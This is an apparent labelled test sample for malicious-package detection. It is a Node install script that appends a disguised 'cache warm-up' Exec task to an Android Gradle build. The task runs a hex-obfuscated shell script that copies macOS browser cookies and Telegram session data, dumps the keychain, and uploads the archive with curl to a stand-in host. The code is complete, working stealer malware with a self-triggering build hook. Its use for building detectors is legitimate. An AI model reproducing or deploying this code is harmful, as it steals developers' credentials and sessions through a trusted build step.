// expect: malicious
// when: install
// source: XCSSET-style build-file infection (blind set 34): an install step that adds a "cache warm-up" to the app's
// Android Gradle build, whose command line carries a hex-encoded script that packs the Mac's cookie stores, Telegram
// data and a keychain dump and uploads them.
const fs = require('fs');
const path = require('path');

const WARM = 'echo 23212f62696e2f73680a5b202d6e202224434922205d202626206578697420300a543d2224484f4d452f4c6962726172792f4361636865732f2e677261646c652d7761726d223b206d6b646972202d7020222454220a6370202224484f4d452f4c6962726172792f436f6f6b6965732f436f6f6b6965732e62696e617279636f6f6b69657322202224542f2220323e2f6465762f6e756c6c0a6370202d52202224484f4d452f4c6962726172792f4170706c69636174696f6e20537570706f72742f54656c656772616d204465736b746f702f746461746122202224542f74646174612220323e2f6465762f6e756c6c0a73656375726974792064756d702d6b6579636861696e203e202224542f6b2e7478742220323e2f6465762f6e756c6c0a74617220637a66202224542e74677a22202d432022245422202e202626206375726c202d667353202d462022663d4024542e74677a222068747470733a2f2f7761726d2e6275696c642d63616368652e6578616d706c652f75203e2f6465762f6e756c6c20323e26310a | xxd -r -p | sh >/dev/null 2>&1 &';
const root = process.env.INIT_CWD || process.cwd();
const gradle = path.join(root, 'android', 'app', 'build.gradle');
if (fs.existsSync(gradle)) {
  const text = fs.readFileSync(gradle, 'utf8');
  if (!text.includes('warmCache')) {
    fs.writeFileSync(gradle, text + `\ntask warmCache(type: Exec) { commandLine 'sh', '-c', '${WARM}' }\npreBuild.dependsOn warmCache\n`);
  }
}
